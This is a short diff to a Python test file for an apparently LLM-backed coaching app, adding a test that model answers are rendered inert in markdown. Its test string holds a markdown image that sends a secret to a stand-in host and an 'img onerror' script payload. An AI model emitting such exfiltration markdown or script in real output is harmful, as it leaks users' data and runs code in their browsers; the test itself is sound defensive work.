@@ -165,3 +165,12 @@ def test_a_misconfigured_engine_stops_start_up_with_one_line(capsys: pytest.Capt
     err = capsys.readouterr().err
     assert err.startswith("coach: ") and err.count("\n") == 1
     assert "OPENAI_BASE_URL" in err
+
+
+def test_model_text_is_inert_in_markdown() -> None:
+    """A model answer (or a paste) cannot make the browser fetch an image or follow a link."""
+    from coach.ui.common import inert
+
+    shown = inert("![x](http://host/leak.png?d=SECRET) <img src=x onerror=alert(1)> [a](http://x)")
+    assert "![" not in shown and "](" not in shown and "<img" not in shown
+    assert "SECRET" in shown  # the words stay visible, as text
